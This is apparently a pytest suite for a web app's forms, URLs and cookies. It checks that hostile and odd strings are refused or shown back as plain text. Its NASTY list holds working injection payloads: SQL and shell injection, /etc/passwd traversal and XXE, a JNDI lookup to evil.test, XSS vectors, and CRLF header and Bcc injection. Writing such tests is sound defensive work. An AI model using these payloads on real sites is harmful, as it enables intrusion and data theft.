"""Texts that have broken other programs: wherever one may be typed it stays text, is refused, or both."""

import re
from html.parser import HTMLParser
from urllib.parse import quote, quote_plus, urlencode

import pytest

from browser import Browser

NASTY = [
    # names that languages, shells, databases and file systems have for something else
    "undefined", "null", "NULL", "nil", "None", "true", "NaN", "Infinity", "-1", "0", "1e309", "0x0", "1/0", "00",
    "٣",
    "__proto__", "constructor", "hasOwnProperty", "CON", "con.txt", "LPT1", ".", "..", "../../../etc/passwd", "~root",
    "file:///etc/passwd", "C:\\Windows", "-rf", "--help", "$HOME", "${7*7}", "#{7*7}", "{{7*7}}", "{{{self}}}",
    "{{>layout}}",
    "{% debug %}", "<%= 7*7 %>", "%d%s%n%x", "%%%", "%20", "%2527", "&#39;", "&amp;lt;", "\\", "\\0", "\\u0041",
    "\\'",
    # SQL, shells, LDAP, XML
    "'", "\"", "`", "''", "' OR '1'='1", "\" OR \"\"=\"", "1; DROP TABLE account",
    "' UNION SELECT password_hash, 2 -- ",
    "admin'/*", "\\' OR 1=1#", "1 AND SLEEP(5)", "$(sleep 5)", "`sleep 5`", ";sleep 5;", "|| sleep 5", "& sleep 5 &",
    "*)(uid=*))(|(uid=*", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "${jndi:ldap://evil.test/a}",
    # markup, in every place where a text stands on a page
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "</title><svg onload=alert(1)>",
    "</textarea><b>",
    "--><b>", "]]><b>", "<b", "<!--", "<plaintext>", "<base href=//evil.test>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "data:text/html,<b>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.test>", "＜b＞",
    "¼script¾alert(1)¼/script¾", "<\u200bscript>", "expression(alert(1))",
    # Unicode
    "Ω≈ç√∫", "田中さん", "יִהְיֶה", "مَكْتُوب", "ǅ", "ﬀ", "ß", "ẞ", "İ", "ı", "K", "é", "e\u0301",
    "Z\u0351\u036b\u0343\u032a", "👩‍👩‍👧‍👦",
    "🏳️‍🌈", "🇦🇶", "\U0010ffff", "\ufffd", "\ufeff", "\u200b", "\u202eevil", "\u2066x", "\u00a0", "\u3000",
    "\u00ad", "\u2028", "\u2029",
    "\u0085", "\ufdd0", "\ue000", "𝕿𝖍𝖊", "ⓣⓔⓧⓣ",
    # white space and controls
    " ", "\t", "\n", "\r\n", "\x0b", "\x0c", "\x1b[2J", "\x07", "\x08", "\x7f", "a\r\nSet-Cookie: session=evil",
    "a\nBcc: evil@example.net",
    "a" * 255, "a" * 5000, "é" * 3000,
]
# As they stand in a form, because UTF-8 has no text for them.
BROKEN = [b"%00", b"a%00b", b"%FF", b"%C0%AF", b"%E2%28%A1", b"%ED%A0%80", b"%F4%90%80%80", b"%BF%27 OR 1=1", b"%81%5C",
          b"\xff", b"%"]


class Tags(HTMLParser):
    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, sorted(name for name, _ in attributes if name != "aria-invalid")))
        for name, value in attributes:
            assert not name.startswith("on")
            assert name not in ("href", "src", "action") or re.match(r"mailto:|/|[?]|#\w+$", value), value


def tags(page):
    return Tags(page.text).found


def test_typed_into_a_form_they_come_back_as_text(browser):
    """No tag and no attribute is added to the page."""
    refused = tags(browser.post("/register", {"username": "a", "email": "a", "password": "a"}))
    login = tags(browser.post("/login", {"identifier": "a", "password": "a"}))
    for text in NASTY:
        answer = browser.post("/register", {"username": text + "!", "email": text, "password": "short"})
        assert answer.status == 422 and tags(answer) == refused, text
        assert answer.value("username") == text + "!" and answer.value("email") == text
        answer = browser.post("/login", {"identifier": text, "password": text})
        assert answer.status == 422, text
        assert tags(answer) == login or not text


def test_as_a_username_they_are_one_or_are_refused(site, person):
    for number, text in enumerate(NASTY):
        answer = Browser(site).post("/register", {
            "username": text, "email": f"{number}.{person.email}", "password": person.password})
        if re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{2,29}", text):
            # Some are kept for the site, and NULL is taken once null is somebody's.
            assert answer.status == 303 or re.search("reserved|taken", answer.problems["username"]), text
        else:
            assert answer.status == 422 and list(answer.problems) == ["username"], text


def test_on_a_profile_they_are_seen_as_they_were_typed(site, signed_in, member, other_member, other_browser):
    other_browser.log_in(other_member)
    pages = ["/profile", "/dashboard", f"/profiles/{member.username}", "/profiles?q=" + member.username]

    def save(text):
        return signed_in.post("/profile/edit", {
            "username": member.username, "email": member.email, "display_name": text, "about": text})

    assert save("text").status == 303
    signed_in.get("/profile")  # the page that says that it is saved
    plain = {path: tags(other_browser.get(path) if "profiles" in path else signed_in.get(path)) for path in pages}
    shown = 0
    for text in NASTY:
        if save(text).status == 422 or not text.strip(" \t\r\n\x0b\x0c\x85\u00a0\u2028\u2029\u3000\u200b\ufeff"):
            continue
        shown += 1
        signed_in.get("/profile")
        for path, expected in plain.items():
            answer = other_browser.get(path) if "profiles" in path else signed_in.get(path)
            assert tags(answer) == expected, (path, text)
    assert shown > 80


def test_in_an_address_they_find_nothing(signed_in):
    search = tags(signed_in.get("/profiles?q=nobody-has-this-name"))
    for text in NASTY:
        if len(text) > 1000:  # nginx takes none so long
            continue
        answer = signed_in.get("/profiles?q=" + quote_plus(text + "\u2021"))
        assert answer.status == 200 and tags(answer) == search, text
        for path in ("/profiles/", "/verify/1/", "/verify/", "/password-reset-confirm/1/", "/nothing/"):
            assert signed_in.get(path + quote(text + "\u2021", safe="")).status in (400, 404, 410), text
        assert signed_in.get("/profiles?after=" + quote_plus(text)).status == 200, text


@pytest.mark.parametrize("name", ["session", "visitor", "device", "password-reset", "notice", "other"])
def test_as_a_cookie_they_are_nobodys_and_are_not_repeated(site, name):
    plain = tags(Browser(site).get("/login"))
    for text in NASTY:
        if re.search(r"[\r\n]", text) or len(text) > 4000:  # no browser can send the one, nginx takes not the other
            continue
        cookie = f"{name}={text}".encode().decode("latin-1")
        for path in ("/login", "/password-reset-confirm/1/set-password", "/dashboard"):
            answer = Browser(site).get(path, Cookie=cookie)
            assert answer.status == (400 if "\x00" in text else {"/login": 200, "/dashboard": 303}.get(path, 410)), text
            if path == "/login":
                assert tags(answer) == plain, text
        form = urlencode({"csrf_token": "x", "identifier": "a", "password": "b"})
        assert Browser(site).send("/login", form, {"Cookie": cookie}).status == 403


@pytest.mark.parametrize("cookies, status", [
    ("session=" + 7900 * "A", 200), ("session=" + 8200 * "A", 400), ("; ".join(f"c{n}=v" for n in range(200)), 200),
    ("; ".join(["session=" + 43 * "A"] * 100), 200), (";" * 7000, 200), ("=" * 7000, 200), ("session" * 1000, 200),
])
def test_long_and_many_cookies_are_nobodys(site, cookies, status):
    assert Browser(site).get("/login", Cookie=cookies).status == status
    assert Browser(site).get("/dashboard", Cookie=cookies).status == (400 if status == 400 else 303)


@pytest.mark.parametrize("form, fields", [
    ("/login", ["identifier", "password", "next", "remember"]), ("/register", ["username", "email", "password"]),
    ("/password-reset", ["email"]), ("/verify/resend", ["email"]),
])
def test_what_is_no_text_is_refused_in_every_field(browser, form, fields):
    token = browser.form_token(form).encode()
    for field in fields:
        for text in BROKEN:
            answer = browser.send(form, b"csrf_token=" + token + b"&" + field.encode() + b"=" + text)
            assert answer.status == 400, (field, text)
